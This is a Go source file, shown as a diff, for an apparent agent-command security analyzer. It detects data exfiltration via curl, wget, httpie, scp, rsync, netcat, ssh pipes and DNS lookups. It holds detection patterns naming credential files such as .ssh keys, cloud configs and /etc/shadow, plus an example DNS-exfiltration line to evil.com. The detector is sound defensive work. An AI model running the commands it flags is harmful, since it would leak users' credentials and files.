@@ -0,0 +1,306 @@
+package analyzer
+
+import (
+	"fmt"
+	"path"
+	"strings"
+)
+
+// credentialPathFragments mark directories and files holding secrets.
+var credentialPathFragments = []string{
+	".ssh/", ".aws/", ".azure/", ".gnupg/", ".config/gcloud/", ".kube/", ".docker/config.json",
+	".netrc", ".npmrc", ".pypirc", ".git-credentials", ".vault-token", "/etc/shadow", "/etc/gshadow",
+	"id_rsa", "id_ed25519", "id_ecdsa", "id_dsa", "credentials",
+}
+
+var credentialExtensions = []string{".pem", ".key", ".p12", ".pfx", ".jks", ".keystore", ".kdbx", ".ppk"}
+
+// pipelineSources read the files they are given and write them to stdout.
+var pipelineSources = map[string]bool{
+	"cat": true, "tar": true, "zip": true, "gzip": true, "bzip2": true, "xz": true, "zstd": true,
+	"base64": true, "xxd": true, "od": true, "openssl": true, "gpg": true, "head": true, "tail": true,
+}
+
+// exfilPayload is local data leaving the machine in one command.
+type exfilPayload struct {
+	channel     string // curl, scp, nc, dns, ...
+	destination string
+	sources     []string
+	severity    string // base severity before credential escalation
+}
+
+// detectExfiltration reports commands that send local files off the machine:
+// curl/wget/httpie uploads, scp/rsync to remote hosts, raw sockets, piping
+// archives into ssh and DNS lookups built from command output.
+func detectExfiltration(line string, lineNum int) []Finding {
+	commands := parseShellCommands(line)
+	var payloads []exfilPayload
+
+	for i, cmd := range commands {
+		name, args := cmd.program()
+		stdin := stdinSources(commands, i)
+
+		switch name {
+		case "curl":
+			sources := curlUploadSources(args, stdin)
+			if len(sources) > 0 {
+				payloads = append(payloads, exfilPayload{"curl", firstURL(args), sources, "medium"})
+			}
+		case "wget":
+			var sources []string
+			for _, flag := range []string{"--post-file", "--body-file"} {
+				if v, ok := flagValue(args, flag); ok {
+					sources = append(sources, v)
+				}
+			}
+			if len(sources) > 0 {
+				payloads = append(payloads, exfilPayload{"wget", firstURL(args), sources, "medium"})
+			}
+		case "http", "https", "xh":
+			// httpie: @file is the raw body, field@file uploads, field=@file embeds
+			var sources []string
+			for _, operand := range nonFlagArgs(args) {
+				switch at := strings.Index(operand, "@"); {
+				case at == 0:
+					sources = append(sources, operand[1:])
+				case strings.Contains(operand, "=@"):
+					sources = append(sources, operand[strings.Index(operand, "=@")+2:])
+				case at > 0 && at+1 < len(operand) && strings.ContainsAny(operand[at+1:at+2], "/.~"):
+					sources = append(sources, operand[at+1:])
+				}
+			}
+			if len(sources) > 0 {
+				payloads = append(payloads, exfilPayload{"httpie", firstURL(args), sources, "medium"})
+			}
+		case "scp", "rsync":
+			operands := operandsSkipping(args, "-P", "-i", "-o", "-F", "-c", "-l", "-S", "-J", "-e", "--rsh",
+				"--exclude", "--include", "--filter", "--port", "--password-file")
+			if len(operands) < 2 || !isRemotePath(operands[len(operands)-1]) {
+				continue
+			}
+			var sources []string
+			for _, src := range operands[:len(operands)-1] {
+				if !isRemotePath(src) {
+					sources = append(sources, src)
+				}
+			}
+			if len(sources) > 0 {
+				payloads = append(payloads, exfilPayload{name, operands[len(operands)-1], sources, "medium"})
+			}
+		case "nc", "ncat", "netcat", "socat", "telnet":
+			if len(stdin) > 0 {
+				payloads = append(payloads, exfilPayload{name, strings.Join(nonFlagArgs(args), " "), stdin, "high"})
+			}
+		case "ssh":
+			if len(stdin) > 0 {
+				operands := operandsSkipping(args, "-p", "-i", "-o", "-F", "-l", "-J", "-L", "-R", "-D")
+				dest := ""
+				if len(operands) > 0 {
+					dest = operands[0]
+				}
+				payloads = append(payloads, exfilPayload{"ssh", dest, stdin, "medium"})
+			}
+		case "dig", "nslookup", "host", "drill":
+			// Query names built from command output: dig $(cat f | base64).evil.com
+			query := strings.Join(nonFlagArgs(args), " ")
+			if isCommandSubstitution(query) && strings.HasPrefix(query[strings.LastIndexAny(query, ")`")+1:], ".") {
+				payloads = append(payloads, exfilPayload{"dns", query, []string{query}, "high"})
+			}
+		}
+	}
+
+	if len(payloads) == 0 {
+		return nil
+	}
+
+	// One finding per line, for the most severe payload
+	best := payloads[0]
+	bestSeverity, bestCredential := best.severity, ""
+	for _, p := range payloads {
+		severity, credential := p.severity, ""
+		for _, src := range p.sources {
+			if isCredentialPath(src) {
+				severity, credential = "critical", src
+				break
+			}
+		}
+		if severityRank(severity) > severityRank(bestSeverity) {
+			best, bestSeverity, bestCredential = p, severity, credential
+		}
+	}
+
+	desc := fmt.Sprintf("Local data sent off-machine via %s", best.channel)
+	if best.destination != "" {
+		desc += " to " + best.destination
+	}
+	rec := "Confirm the destination is trusted and the data is meant to leave this machine."
+	if bestCredential != "" {
+		desc += fmt.Sprintf(" (credential file: %s)", bestCredential)
+		rec = "BLOCK this command. Credential files and keys must never be uploaded by an agent."
+	}
+
+	return []Finding{{
+		Severity:       bestSeverity,
+		Code:           "DATA_EXFILTRATION",
+		Description:    desc,
+		Line:           lineNum,
+		Recommendation: rec,
+	}}
+}
+
+// curlUploadSources returns the files curl would send: -d @file, --data-binary @file,
+// -F name=@file, -T file. @- and -T - read stdin.
+func curlUploadSources(args []string, stdin []string) []string {
+	var sources []string
+	add := func(src string) {
+		if src == "-" {
+			sources = append(sources, stdin...)
+			return
+		}
+		sources = append(sources, src)
+	}
+
+	for i := 0; i < len(args); i++ {
+		arg := args[i]
+		value, hasValue := "", false
+		flag := arg
+		if eq := strings.Index(arg, "="); eq > 0 && strings.HasPrefix(arg, "--") {
+			flag, value, hasValue = arg[:eq], arg[eq+1:], true
+		} else if len(arg) > 2 && !strings.HasPrefix(arg, "--") && strings.ContainsAny(arg[1:2], "dFT") {
+			flag, value, hasValue = arg[:2], arg[2:], true
+		}
+		if !hasValue && i+1 < len(args) {
+			switch flag {
+			case "-d", "--data", "--data-binary", "--data-urlencode", "--data-ascii", "--json", "-F", "--form", "-T", "--upload-file":
+				value, hasValue = args[i+1], true
+				i++
+			}
+		}
+		if !hasValue {
+			continue
+		}
+
+		switch flag {
+		case "-T", "--upload-file":
+			add(value)
+		case "-d", "--data", "--data-binary", "--data-urlencode", "--data-ascii", "--json":
+			if at := strings.Index(value, "@"); at >= 0 && (at == 0 || flag == "--data-urlencode") {
+				add(value[at+1:])
+			} else if isCommandSubstitution(value) {
+				sources = append(sources, value)
+			}
+		case "-F", "--form":
+			if eq := strings.Index(value, "="); eq >= 0 && eq+1 < len(value) && (value[eq+1] == '@' || value[eq+1] == '<') {
+				src := value[eq+2:]
+				if semi := strings.Index(src, ";"); semi >= 0 {
+					src = src[:semi]
+				}
+				add(src)
+			}
+		}
+	}
+	return sources
+}
+
+// stdinSources returns the files feeding command i: its own `< file` redirect
+// or the file operands of a cat/tar/base64 stage piped into it.
+func stdinSources(commands []shellCommand, i int) []string {
+	var sources []string
+	for _, r := range commands[i].Redirects {
+		if r.Op == "<" || r.Op == "0<" {
+			sources = append(sources, r.Target)
+		}
+	}
+	for j := i; j > 0 && commands[j].Piped; j-- {
+		prev := commands[j-1]
+		name, args := prev.program()
+		for _, r := range prev.Redirects {
+			if r.Op == "<" || r.Op == "0<" {
+				sources = append(sources, r.Target)
+			}
+		}
+		if !pipelineSources[name] {
+			break
+		}
+		// Filters like `base64` without operands pass the earlier stage through
+		files := 0
+		for _, operand := range nonFlagArgs(args) {
+			if operand != "-" {
+				sources = append(sources, operand)
+				files++
+			}
+		}
+		if files > 0 {
+			break
+		}
+	}
+	return sources
+}
+
+// isCredentialPath reports paths (or expansions mentioning paths) that hold secrets
+func isCredentialPath(p string) bool {
+	lower := strings.ToLower(strings.Trim(p, `"'`))
+	if lower == "" {
+		return false
+	}
+	for _, fragment := range credentialPathFragments {
+		if strings.Contains(lower+"/", fragment) {
+			return true
+		}
+	}
+	for _, word := range strings.FieldsFunc(lower, func(r rune) bool { return r == ' ' || r == '(' || r == ')' || r == '`' }) {
+		base := path.Base(word)
+		if base == ".env" || (strings.HasPrefix(base, ".env.") && !strings.Contains(base, "example") &&
+			!strings.Contains(base, "sample") && !strings.Contains(base, "template")) {
+			return true
+		}
+		for _, ext := range credentialExtensions {
+			if strings.HasSuffix(base, ext) {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// isRemotePath reports scp/rsync style remote locations ([user@]host:path, rsync://, sftp://)
+func isRemotePath(p string) bool {
+	if strings.Contains(p, "://") {
+		return !strings.HasPrefix(p, "file://")
+	}
+	colon := strings.Index(p, ":")
+	if colon <= 1 {
+		return false
+	}
+	return !strings.Contains(p[:colon], "/")
+}
+
+func isCommandSubstitution(s string) bool {
+	return strings.Contains(s, "$(") || strings.Contains(s, "`")
+}
+
+func firstURL(args []string) string {
+	for _, arg := range args {
+		if strings.Contains(arg, "://") {
+			return arg
+		}
+	}
+	for _, arg := range nonFlagArgs(args) {
+		if strings.Contains(arg, ".") && !strings.Contains(arg, "@") && !strings.Contains(arg, "=") {
+			return arg
+		}
+	}
+	return ""
+}
+
+func severityRank(severity string) int {
+	switch severity {
+	case "critical":
+		return 3
+	case "high":
+		return 2
+	case "medium":
+		return 1
+	}
+	return 0
+}